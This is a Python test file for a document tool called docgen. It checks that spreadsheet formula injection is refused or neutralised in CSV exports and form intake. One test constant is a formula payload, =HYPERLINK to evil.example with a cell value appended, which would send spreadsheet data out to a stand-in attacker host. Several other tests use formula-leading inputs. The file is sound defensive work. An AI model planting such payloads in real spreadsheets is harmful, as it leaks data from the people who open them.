"""No formula reaches a spreadsheet (issue 44; OWASP, "CSV Injection"): free text a returned form
or `docgen elect` carries is refused when a spreadsheet would run it (a leading =, +, -, @, tab or
carriage return), with the fix, and nothing is written; every CSV docgen writes whole goes through
one writer (docgen.core.safe_text.csv_text) that prefixes such a cell with a quote and ends lines
with CRLF; and a cell intake adds to a CSV the user keeps goes through the same quoting."""

from __future__ import annotations

import csv
import io
import shutil
from pathlib import Path

import pytest

from docgen.core import safe_text
from docgen.intake.roster_text import RosterText
from docgen.intake.yaml_text import YamlEditError
from docgen.load import load_facts
from docgen.render import html as render
from tests.conftest import SAMPLES
from tests.fillers import pypdf_fill

HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"Click")'


def _hris(tmp_path: Path) -> Path:
    shutil.copytree(SAMPLES / "hris", tmp_path / "hris")
    shutil.copy(SAMPLES / "rrp-2026-hris.yaml", tmp_path)
    return tmp_path / "rrp-2026-hris.yaml"


def _files(folder: Path) -> dict[str, bytes]:
    return {str(p.relative_to(folder)): p.read_bytes() for p in folder.rglob("*") if p.is_file()}


@pytest.mark.parametrize("lead", ["=", "+", "-", "@", "\t", "\r"])
def test_a_formula_beneficiary_from_a_returned_form_is_refused(cli, tmp_path, lead):
    facts = _hris(tmp_path)
    blank = render.render_document(load_facts(facts), "rrp-election", "e1016", "enrollment", "pdf")
    name = lead + HYPERLINK[1:]
    filled = pypdf_fill(
        blank,
        {
            "salary_percent": "7",
            "beneficiary_1": name,
            "relationship_1": "spouse",
            "share_1": "100",
            "date_signed": "2025-12-08",
        },
    )
    form = tmp_path / "e1016.pdf"
    form.write_bytes(filled)
    before = _files(tmp_path / "hris") | {facts.name: facts.read_bytes()}
    result = cli("intake", facts, form, "--received-on", "2025-12-10", "--as-of", "2025-12-10")
    assert result.exit_code == 2, result.stdout + result.stderr
    message = " ".join(result.stderr.split())
    assert "beneficiaries[0].name" in message
    assert f"starts with {safe_text.describe(lead)}, which a spreadsheet runs as a formula" in (
        message
    )
    assert f"Write it without the leading {safe_text.visible(lead)}" in message
    assert _files(tmp_path / "hris") | {facts.name: facts.read_bytes()} == before
    assert "Traceback" not in result.stdout + result.stderr


def test_a_formula_in_elect_free_text_is_refused_and_nothing_written(cli, tmp_path):
    facts = _hris(tmp_path)
    before = _files(tmp_path)
    result = cli(
        "elect",
        facts,
        "--for",
        "e1006",
        "--beneficiary",
        "@SUM(A1:A9);spouse;100",
        "--signed-on",
        "2025-12-09",
        "--recorded-by",
        "+R. Benefits",
        "--received-on",
        "2025-12-11",
        "--as-of",
        "2025-12-11",
    )
    assert result.exit_code == 2, result.stdout + result.stderr
    message = " ".join(result.stderr.split())
    assert "beneficiaries[0].name: starts with U+0040" in message
    assert _files(tmp_path) == before


def test_the_same_free_text_without_the_lead_is_recorded(cli, tmp_path):
    """The refusal is for the formula lead only: the fix it gives works."""
    facts = _hris(tmp_path)
    result = cli(
        "elect",
        facts,
        "--for",
        "e1006",
        "--salary-percent",
        "8",
        "--beneficiary",
        "SUM(A1:A9);spouse;100",
        "--signed-on",
        "2025-12-09",
        "--received-on",
        "2025-12-11",
        "--as-of",
        "2025-12-11",
    )
    assert result.exit_code in (0, 1), result.stdout + result.stderr
    rows = list(
        csv.DictReader(io.StringIO((tmp_path / "hris/beneficiaries.csv").read_text("utf-8-sig")))
    )
    assert [row["name"] for row in rows if row["participant_id"] == "e1006"] == ["SUM(A1:A9)"]


def test_a_cell_intake_adds_to_a_kept_csv_is_never_a_formula():
    """The last guard, below intake's refusal: the roster editor will not write a formula cell
    (the file keeps every other byte, so the cell is refused rather than rewritten)."""
    roster = RosterText("id,name\r\nd1,Ann\r\n")
    roster.append({"id": "d2", "name": "=1+1"})
    with pytest.raises(YamlEditError, match="formula"):
        roster.result()
    roster = RosterText("id,name\r\nd1,Ann\r\n")
    roster.append({"id": "d2", "name": "Smith, Jr."})
    assert roster.result() == 'id,name\r\nd1,Ann\r\nd2,"Smith, Jr."\r\n'


def _named(tmp_path: Path, name: str) -> Path:
    text = (SAMPLES / "director-grant-2026.yaml").read_text(encoding="utf-8")
    facts = tmp_path / "grant.yaml"
    assert "name: Jane Q. Smith" in text
    facts.write_text(text.replace("name: Jane Q. Smith", f"name: {name!r}", 1), encoding="utf-8")
    return facts


@pytest.mark.parametrize(
    "command",
    [
        ["status", "--as-of", "2026-06-10", "--format", "csv"],
        ["compute", "--format", "csv"],
        ["calendar", "--format", "csv", "--as-of", "2026-06-01"],
        ["proxy", "--fiscal-year-end", "2027-02-28"],
    ],
    ids=lambda c: c[0],
)
def test_every_csv_docgen_writes_neutralises_formulas_and_ends_lines_crlf(cli, tmp_path, command):
    """A director's name that is a formula (a facts file typed by anyone) reaches every CSV
    docgen writes as text, quote-prefixed, with CRLF line ends."""
    facts = _named(tmp_path, "=1+2 Smith")
    result = cli(command[0], facts, *command[1:])
    assert result.exit_code in (0, 1), result.stdout + result.stderr
    data = result.stdout_bytes.decode("utf-8")  # (click's result.stdout turns CRLF into LF)
    assert "\r\n" in data and data.count("\n") == data.count("\r\n")
    cells = [cell for row in csv.reader(io.StringIO(data)) for cell in row]
    if any("Smith" in cell for cell in cells):
        assert "'=1+2 Smith" in cells
        assert not any(cell.startswith(safe_text.FORMULA_LEADS) for cell in cells)


def test_the_status_csv_names_the_formula_director_quoted(cli, tmp_path):
    facts = _named(tmp_path, "=1+2 Smith")
    result = cli("status", facts, "--as-of", "2026-06-10", "--format", "csv")
    rows = list(csv.DictReader(io.StringIO(result.stdout)))
    assert "'=1+2 Smith" in {row["name"] for row in rows}


def test_one_writer_writes_every_csv():
    """No module but docgen.core.safe_text makes a csv.writer: every CSV docgen writes whole is
    csv_text's (neutralised, CRLF), and intake's cell edits quote with its csv_field."""
    root = Path(__file__).resolve().parent.parent / "docgen"
    writers = sorted(
        str(path.relative_to(root))
        for path in root.rglob("*.py")
        if any(
            call in path.read_text(encoding="utf-8")
            for call in ("csv.writer(", "csv.DictWriter(", "lineterminator=")
        )
    )
    assert writers == ["core/safe_text.py"]
